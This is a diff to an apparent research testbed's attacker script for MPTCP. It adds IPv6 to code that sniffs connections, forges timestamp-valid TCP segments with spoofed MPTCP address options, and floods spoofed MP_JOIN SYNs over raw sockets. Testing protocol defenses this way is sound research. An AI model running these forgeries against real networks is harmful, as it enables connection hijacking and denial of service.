@@ -22,7 +22,8 @@ Two strengths:
 
 With ``--wait`` the program loads scapy, prints ``ready`` and sends when a line arrives
 on stdin (it may list more four-tuples), so the runner can time the attack. It prints one JSON line: what it sent and
-what it knew. Forged packets carry IP ID ``TAG`` so captures can tell them apart.
+what it knew. Forged packets carry ``TAG`` (IPv4: the IP ID; IPv6: the flow label) so
+captures can tell them apart. Both families: a forgery has its eavesdropped segment's.
 The packet builders are plain functions of what the attacker knows; tests run them
 without a network.
 """
@@ -83,7 +84,7 @@ def attacks_of(strength: str) -> tuple[str, ...]:
 
 CLAIM_COUNTER = 2**31  # above any counter a real sender reaches in a trial: it is fresh
 CLAIM_LIFETIME = 30  # s: what the agents claim for their own addresses
-TAG = 0x7A7A  # IP ID of every forged packet
+TAG = 0x7A7A  # IP ID (IPv4) or flow label (IPv6) of every forged packet
 TS_AHEAD = 10  # ms ahead of the peer's extrapolated clock: passes PAWS, stays plausible
 ATTACKER_ADDR_ID = 42  # the address ID a forged ADD_ADDR announces
 CLAIM_ADDR_ID = 2  # the address ID a forged claim gives the eavesdropped address
@@ -142,14 +143,14 @@ class Learner:
     def feed(self, frames) -> Learner:
         """``frames``: (Ethernet frame bytes, capture time), in capture order."""
         for frame, when in frames:
-            if len(frame) < 34 or frame[12:14] != b"\x08\x00":
-                continue  # IPv4 only, like the testbed's topologies
+            if len(frame) < 34 or frame[12:14] not in (b"\x08\x00", b"\x86\xdd"):
+                continue  # IPv4 and IPv6
             packet = frame[14:]
             try:
                 seg = parse(packet)
             except OptionError:
                 continue
-            if packet[4:6] == TAG.to_bytes(2, "big"):
+            if is_forged(packet):
                 continue  # our own forgeries
             if seg.flags & 0x04:  # RST
                 continue
@@ -168,6 +169,7 @@ class Learner:
 
     def knowledge(self) -> Knowledge:
         from scapy.layers.inet import IP  # noqa: F401  (binds IP/TCP under Ether)
+        from scapy.layers.inet6 import IPv6  # noqa: F401  (and IPv6)
         from scapy.layers.l2 import Ether
 
         k = Knowledge()
@@ -269,6 +271,29 @@ def control_options(area: bytes, subtypes: set[int]) -> list[bytes]:
     return [o for kind, o in options if kind == KIND_MPTCP and len(o) > 2 and o[2] >> 4 in subtypes]
 
 
+def is_forged(packet: bytes) -> bool:
+    """Whether an IP packet carries our TAG (IPv4's IP ID, IPv6's flow label)."""
+    if packet[0] >> 4 == 6:
+        return int.from_bytes(packet[1:4], "big") & 0xFFFFF == TAG
+    return packet[4:6] == TAG.to_bytes(2, "big")
+
+
+def ip_of(pkt):
+    """The IP layer (IPv4 or IPv6) of a scapy packet."""
+    from scapy.layers.inet import IP
+    from scapy.layers.inet6 import IPv6
+
+    return pkt[IP] if IP in pkt else pkt[IPv6]
+
+
+def forged_ip(src: str, dst: str):
+    """The IP header of a forgery from ``src`` to ``dst``, tagged."""
+    from scapy.layers.inet import IP
+    from scapy.layers.inet6 import IPv6
+
+    return IPv6(src=src, dst=dst, fl=TAG) if ":" in src else IP(src=src, dst=dst, id=TAG)
+
+
 def _timestamps(tcp) -> tuple[int, int]:
     for name, value in tcp.options:
         if name == "Timestamp":
@@ -281,29 +306,32 @@ def segment_after(seen, option: bytes, now: float | None = None):
 
     Linux timestamps tick in milliseconds, so the sender's clock is extrapolated from
     when ``seen`` was captured (``seen.time``) to ``now``: PAWS drops anything older."""
-    from scapy.layers.inet import IP, TCP
+    from scapy.layers.inet import TCP
 
-    ip, tcp = seen[IP], seen[TCP]
+    ip, tcp = ip_of(seen), seen[TCP]
     tsval, tsecr = _timestamps(tcp)
     if now is not None:
         tsval += int((now - float(seen.time)) * 1000)
     options = [("NOP", None), ("NOP", None), ("Timestamp", (tsval + TS_AHEAD, tsecr)),
                (option[0], option[2:])]  # fmt: skip
-    payload = ip.len - ip.ihl * 4 - tcp.dataofs * 4  # the tap may have cut the payload
+    # The tap may have cut the payload: its length is in the IP header (Linux sends TCP
+    # right after IPv6's fixed header).
+    header = ip.ihl * 4 if ip.version == 4 else 0
+    payload = (ip.len if ip.version == 4 else ip.plen) - header - tcp.dataofs * 4
     forged = TCP(sport=tcp.sport, dport=tcp.dport, seq=tcp.seq + payload,
                  ack=tcp.ack, flags="A", window=tcp.window, options=options)  # fmt: skip
-    return IP(src=ip.src, dst=ip.dst, id=TAG) / forged
+    return forged_ip(ip.src, ip.dst) / forged
 
 
 def guessed_segment(four_tuple, option: bytes, rng: random.Random):
     """A blind guess: the right four-tuple, everything else random."""
-    from scapy.layers.inet import IP, TCP
+    from scapy.layers.inet import TCP
 
     src, sport, dst, dport = four_tuple
     options = [("NOP", None), ("NOP", None),
                ("Timestamp", (rng.getrandbits(32), rng.getrandbits(32))),
                (option[0], option[2:])]  # fmt: skip
-    return IP(src=src, dst=dst, id=TAG) / TCP(
+    return forged_ip(src, dst) / TCP(
         sport=sport, dport=dport, seq=rng.getrandbits(32), ack=rng.getrandbits(32),
         flags="A", window=rng.randrange(1, 65536), options=options,
     )  # fmt: skip
@@ -335,9 +363,7 @@ def claim_for(seen, k: Knowledge, counter: int, subtype: int = ADDR_TRUST_DEFAUL
     the victim accepted on the connection."""
     if k.peer_key is None or k.victim_key is None:
         return None
-    from scapy.layers.inet import IP
-
-    src, dst = seen[IP].src, seen[IP].dst
+    src, dst = ip_of(seen).src, ip_of(seen).dst
     unsigned = AddrTrust(CLAIM_ADDR_ID, counter, CLAIM_LIFETIME, b"")
     opt = signed_addr_trust(k.peer_key, k.victim_key, unsigned, src, src, dst, subtype)
     return encode(opt, subtype)
@@ -398,7 +424,7 @@ def join_flood(k: Knowledge, sources: list[str], targets: list[str], port: int,
                rng: random.Random) -> list:  # fmt: skip
     """MP_JOIN SYNs from the ``sources`` (spoofed) to the peer's ``targets``, with the
     token of the peer's key if known, else a guessed one."""
-    from scapy.layers.inet import IP, TCP
+    from scapy.layers.inet import TCP
 
     token = token_of(k.peer_key) if k.peer_key is not None else rng.getrandbits(32)
     out = []
@@ -407,22 +433,29 @@ def join_flood(k: Knowledge, sources: list[str], targets: list[str], port: int,
                              nonce=rng.getrandbits(32)))  # fmt: skip
         options = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (rng.getrandbits(32), 0)),
                    ("WScale", 7), (join[0], join[2:])]  # fmt: skip
-        out.append(IP(src=sources[i % len(sources)], dst=targets[i % len(targets)], id=TAG)
+        out.append(forged_ip(sources[i % len(sources)], targets[i % len(targets)])
                    / TCP(sport=rng.randrange(32768, 61000), dport=port, flags="S",
                          seq=rng.getrandbits(32), options=options))  # fmt: skip
     return out
 
 
-def raw_socket() -> socket.socket:
-    """A raw IPv4 socket that sends our headers as they are; the kernel routes and
-    resolves the next hop (with its own retries, where scapy's send() gives up after one
-    ARP request and sends to the broadcast address, which the victim's TCP ignores)."""
-    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+class RawSender:
+    """Raw IP sockets (one per family, IPv6's opened at its first use) that send our
+    headers as they are; the kernel routes and resolves the next hop (with its own
+    retries, where scapy's send() gives up after one ARP request and sends to the
+    broadcast address, which the victim's TCP ignores)."""
 
+    def __init__(self):
+        self.sockets = {4: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)}
 
-def send_raw(sock: socket.socket, packets) -> None:
-    for pkt in packets:
-        sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
+    def send(self, packets) -> None:
+        for pkt in packets:
+            ip = ip_of(pkt)
+            if ip.version not in self.sockets:
+                self.sockets[6] = socket.socket(
+                    socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW
+                )
+            self.sockets[ip.version].sendto(bytes(pkt), (ip.dst, 0))
 
 
 def parse_tuple(text: str) -> tuple[str, int, str, int]:
@@ -471,7 +504,7 @@ def main(argv: list[str] | None = None) -> int:
     from scapy.layers.inet import IP  # noqa: F401  (loaded before the go line, not after)
 
     try:
-        sock = raw_socket()
+        sender = RawSender()
     except OSError as e:  # not root (CAP_NET_RAW)
         print(json.dumps({"error": f"a raw socket for the forgeries: {e}"}), flush=True)
         return 1
@@ -495,7 +528,7 @@ def main(argv: list[str] | None = None) -> int:
         print(json.dumps({"error": str(e)}), flush=True)
         return 1
     try:
-        send_raw(sock, packets)
+        sender.send(packets)
     except OSError as e:
         print(json.dumps({"error": f"sending the forgeries: {e}"}), flush=True)
         return 1
